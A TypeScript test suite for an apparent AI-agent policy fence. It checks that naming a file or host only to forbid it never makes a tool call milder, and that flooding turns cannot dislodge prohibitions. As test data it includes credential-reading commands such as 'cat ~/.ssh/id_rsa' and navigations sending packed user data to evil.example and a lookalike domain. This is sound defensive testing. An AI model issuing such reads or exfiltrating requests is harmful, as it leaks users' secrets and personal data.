/** What is only named because it is forbidden, and what becomes of words past the bounds of a policy. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  applyTurn,
  DEFAULT_CONFIGURATION,
  MAX_PROHIBITIONS,
  readConfiguration,
  type TaskPolicy,
} from "../../../src/policy/fence/index.ts";
import type { ToolUse } from "./material.ts";
import { judged, policy, policyOf, RANK, reading } from "./support.ts";

const shell = (command: string): ToolUse => ({ tool: "terminal", args: { command } });
const send = (to: string): ToolUse => ({
  tool: "mcp__gmail__send_message",
  args: { to, subject: "s", body: "b" },
});
const PACKED = "user=ann&city=Bonn&mail=a%40b.example";
const look = (url: string): ToolUse => ({ tool: "browser_navigate", args: { url } });

/** Things that a person may forbid by name, and calls that look at them. */
const SECRETS: readonly (readonly [string, readonly ToolUse[]])[] = [
  ["~/.ssh/id_rsa", [shell("cat ~/.ssh/id_rsa"), { tool: "read_file", args: { path: "~/.ssh/id_rsa" } }]],
  [".env", [{ tool: "read_file", args: { path: ".env" } }, shell("cat .env")]],
  ["~/.aws/credentials", [{ tool: "read_file", args: { path: "~/.aws/credentials" } }]],
  ["/home/u/.ssh", [shell("cat /home/u/.ssh/id_rsa")]],
];
const HOSTS: readonly (readonly [string, readonly ToolUse[]])[] = [
  ["https://evil.example", [look(`https://evil.example/?${PACKED}`)]],
  ["evil.example", [look(`https://evil.example/a?${PACKED}`), look(`https://eviI.example/?${PACKED}`)]],
];
const BANS = (name: string): string[] => [
  `Don't touch ${name}.`,
  `Never open ${name}.`,
  `Do not read ${name}.`,
  `Stay away from ${name}.`,
  `Don't change or delete ${name}.`,
  `Nothing may be sent to ${name}.`,
  `Ask me before you touch ${name}.`,
  `Finger weg von ${name}.`,
  `No toques ${name}.`,
];
const BEFORE = ["Summarise it.", "Email the summary to john@example.com.", "Fix the failing tests."];

describe("what is named only to forbid it", () => {
  const cases = [...SECRETS, ...HOSTS].flatMap(([name, calls]) =>
    BANS(name).flatMap((ban) =>
      BEFORE.flatMap((before) => calls.map((call): [string, string, ToolUse] => [before, ban, call])),
    ),
  );
  it.each(cases)("%s / %s is no milder: %j", (before, ban, call) => {
    const without = judged(policyOf([before]), call).verdict;
    for (const turns of [[before, ban], [`${before} ${ban}`], [`${ban} ${before}`]])
      expect(RANK[judged(policyOf(turns), call).verdict], turns.join(" | ")).toBeGreaterThanOrEqual(
        RANK[without],
      );
  });

  it.each(SECRETS.slice(0, 3))("a secret that was only forbidden stays shut: %s", (name, calls) => {
    for (const ban of BANS(name).slice(0, 5))
      for (const call of calls)
        expect(judged(policyOf([`Summarise it. ${ban}`]), call).verdict, ban).toBe("block");
  });

  it("is named where a later turn asks for it, and no more once one forbids it", () => {
    const call: ToolUse = { tool: "read_file", args: { path: "~/.ssh/config.key" } };
    const read: ToolUse = { tool: "read_file", args: { path: "~/.ssh/id_rsa" } };
    const verdict = (...turns: string[]): string => judged(policyOf(turns), read).verdict;
    expect(verdict("Read ~/.ssh/id_rsa and tell me its type.")).toBe("ask");
    expect(verdict("Read ~/.ssh/id_rsa.", "Don't touch ~/.ssh/id_rsa.")).toBe("block");
    expect(verdict("Read ~/.ssh/id_rsa.", "Don't touch anything in ~/.ssh.")).toBe("block");
    expect(verdict("Don't touch ~/.ssh/id_rsa.", "Read ~/.ssh/id_rsa.")).toBe("ask");
    expect(judged(policyOf(["Hi."]), call).verdict).not.toBe("ask");
  });

  const names = fc.constantFrom(...SECRETS, ...HOSTS);
  const bans = names.chain(([name, calls]) =>
    fc.tuple(fc.constantFrom(...BANS(name)), fc.constantFrom(...calls)),
  );
  it("makes no call milder, whatever was said before and whoever says it", () => {
    fc.assert(
      fc.property(
        policy,
        bans,
        fc.constantFrom("owner" as const, "narrow" as const, "heard" as const),
        (before, [text, call], authority) => {
          const after = policyOf([{ text, authority }], before);
          expect(RANK[judged(after, call).verdict]).toBeGreaterThanOrEqual(
            RANK[judged(before, call).verdict],
          );
        },
      ),
      { numRuns: 400 },
    );
  });
});

const KB = 1024;
const MOST = 256 * KB;
const sizeOf = (task: TaskPolicy): number => JSON.stringify(task).length;

describe("past the bounds of a policy", () => {
  const long = (at: number): string => `${at}/${"p/".repeat(500)}f.txt`;
  const FLOODS: Readonly<Record<string, (at: number) => string>> = {
    "long paths": (at) => `Delete ${Array.from({ length: 60 }, (_, i) => long(at * 100 + i)).join(" and ")}.`,
    "long paths that are forbidden": (at) =>
      `Don't touch ${Array.from({ length: 60 }, (_, i) => long(at * 100 + i)).join(" and ")}.`,
    "many recipients": (at) =>
      `Email it to ${Array.from({ length: 60 }, (_, i) => `u${at}x${i}${"x".repeat(90)}@${"y".repeat(60)}.example`).join(" and ")}.`,
    "many prohibitions": (at) =>
      Array.from({ length: 40 }, (_, i) => `Don't email u${at}x${i}@acme.example.`).join("\n"),
    "many requests": (at) => Array.from({ length: 40 }, (_, i) => `Delete d${at}/f${i}.txt.`).join("\n"),
    "names alone": (at) => Array.from({ length: 200 }, (_, i) => long(at * 200 + i)).join(" "),
  };
  it.each(Object.entries(FLOODS))("%s fill no more than a row", (_name, flood) => {
    let task = policyOf(["Summarise the thread."]);
    for (let at = 0; at < 12; at += 1) {
      task = policyOf([{ text: flood(at), authority: "owner" }], task);
      expect(sizeOf(task)).toBeLessThan(MOST);
    }
  });

  it.each(Object.entries(FLOODS))("after %s, what is forbidden is forbidden", (_name, flood) => {
    let task = policyOf(["Summarise the thread."]);
    for (let at = 0; at < 12; at += 1)
      task = applyTurn(task, reading(flood(at)), {
        turn: at + 1,
        authority: at % 2 === 0 ? "owner" : "heard",
      });
    task = policyOf(["Email the summary to john@example.com.", "Don't send anything."], task);
    expect(judged(task, send("john@example.com")).verdict).toBe("block");
    task = policyOf(["Don't delete old/notes.txt."], task);
    expect(judged(task, shell("rm old/notes.txt")).verdict).toBe("block");
  });

  it("a prohibition is never dropped, and no earlier request lifts it", () => {
    const flood = Array.from({ length: MAX_PROHIBITIONS }, (_, at) => ({
      text: `Don't email u${at}@acme.example.`,
      authority: "heard" as const,
    }));
    const task = policyOf([
      "Summarise the thread.",
      ...flood,
      "Email the summary to john@example.com.",
      "Don't send anything.",
    ]);
    expect(task.prohibitions.length).toBeLessThanOrEqual(MAX_PROHIBITIONS);
    expect(judged(task, send("john@example.com")).verdict).toBe("block");
    // A stranger's flood turns nobody's wish to be asked into a refusal.
    const asked = policyOf([
      "Summarise the thread.",
      ...flood.map((one, at) => ({ ...one, text: `Don't email v${at}@acme.example.` })),
      ...flood,
      "Email the summary to john@example.com.",
    ]);
    expect(judged(asked, send("john@example.com")).verdict).not.toBe("block");
  });

  it("only what was asked for first is allowed", () => {
    let task = policyOf(["Delete the file old/notes.txt."]);
    for (let at = 0; at < 12; at += 1) task = policyOf([FLOODS["many requests"]?.(at) ?? ""], task);
    expect(judged(task, shell("rm old/notes.txt")).verdict).toBe("allow");
    expect(judged(task, shell("rm d11/f39.txt")).verdict).not.toBe("allow");
  });
});

describe("settings", () => {
  it("are a record's own members, never what it inherits", () => {
    const inherited = Object.create({
      unauthorized: { reading: { DELETE: "allow" }, acting: { DELETE: "allow" } },
      strict: true,
      loop_limit: 0,
    }) as object;
    expect(readConfiguration(inherited)).toEqual(DEFAULT_CONFIGURATION);
    const rows = { unauthorized: Object.create({ reading: { DELETE: "allow" } }) as object };
    expect(readConfiguration(rows)).toEqual(DEFAULT_CONFIGURATION);
  });
});
